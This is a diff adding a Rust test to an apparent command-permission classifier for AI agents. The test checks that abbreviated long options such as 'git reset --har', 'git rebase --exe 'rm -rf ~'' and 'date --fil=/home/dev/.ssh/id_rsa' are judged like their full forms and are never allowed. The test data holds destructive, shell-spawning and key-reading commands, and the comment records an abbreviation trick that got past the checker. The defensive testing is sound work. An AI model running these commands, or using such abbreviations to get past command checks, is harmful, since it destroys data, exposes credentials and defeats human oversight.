@@ -1860,3 +1860,87 @@ fn a_build_tools_output_option_is_a_write_where_it_points() {
         assert_eq!(verdict(&bash(cmd)), want, "{cmd}");
     }
 }
+
+/// Round 21 (found probing after round 20): GNU getopt_long, git's
+/// parse-options and man's argp take any unambiguous prefix of a long
+/// option, so `git reset --har` is `git reset --hard` and `git rebase
+/// --exe CMD` runs CMD — but the models matched option names whole, and
+/// an attacker's abbreviation passed as an ordinary write. Each
+/// abbreviation now decides as the option spelt out; options that are
+/// themselves a prefix of another (`grep --exclude`, `git diff --text`)
+/// stay themselves.
+#[test]
+fn an_abbreviated_long_option_decides_as_the_option_spelt_out() {
+    for (short, full) in [
+        ("git reset --har HEAD~3", "git reset --hard HEAD~3"),
+        ("git clean --forc -dx", "git clean --force -dx"),
+        (
+            "git push --forc origin main",
+            "git push --force origin main",
+        ),
+        (
+            "git push --delet origin main",
+            "git push --delete origin main",
+        ),
+        ("git checkout --forc main", "git checkout --force main"),
+        (
+            "git rebase --exe 'rm -rf ~' main",
+            "git rebase --exec 'rm -rf ~' main",
+        ),
+        (
+            "git log --outp=/home/dev/.bashrc -1",
+            "git log --output=/home/dev/.bashrc -1",
+        ),
+        (
+            "sort --out=/home/dev/.bashrc README.md",
+            "sort --output=/home/dev/.bashrc README.md",
+        ),
+        (
+            "sort --compress-prog=sh README.md",
+            "sort --compress-program=sh README.md",
+        ),
+        ("tar --to-com=sh -xf x.tar", "tar --to-command=sh -xf x.tar"),
+        (
+            "tar --checkpoint-act=exec=sh -cf x.tar .",
+            "tar --checkpoint-action=exec=sh -cf x.tar .",
+        ),
+        (
+            "tar --use-compress=/tmp/x -cf x.tar .",
+            "tar --use-compress-program=/tmp/x -cf x.tar .",
+        ),
+        (
+            "cp --target-d=/home/dev/.ssh x",
+            "cp --target-directory=/home/dev/.ssh x",
+        ),
+        (
+            "install --targ=/home/dev/.local/bin x",
+            "install --target-directory=/home/dev/.local/bin x",
+        ),
+        (
+            "date --fil=/home/dev/.ssh/id_rsa",
+            "date --file=/home/dev/.ssh/id_rsa",
+        ),
+        ("rsync --rs='sh -c x' a b", "rsync --rsh='sh -c x' a b"),
+        ("man --pag='sh -c x' ls", "man --pager='sh -c x' ls"),
+        (
+            "wget --output-d=/home/dev/.bashrc x.io",
+            "wget --output-document=/home/dev/.bashrc x.io",
+        ),
+    ] {
+        let (a, b) = (verdict(&bash(short)), verdict(&bash(full)));
+        assert_eq!(a, b, "{short} decides as {full}");
+        assert_ne!(a, "allow", "{short}");
+    }
+    for cmd in [
+        "grep -r --exclude=.env TODO .",
+        "grep -r --exclude-dir=node_modules TODO .",
+        "git diff --text a.bin",
+        "git log --stat -3",
+        "git commit --amend --no-edit",
+        "sed --expression='s/a/b/' README.md",
+        "tar --exclude=.git -czf /tmp/x.tgz .",
+        "git log --oneline -- --har",
+    ] {
+        assert_eq!(verdict(&bash(cmd)), "allow", "{cmd}");
+    }
+}
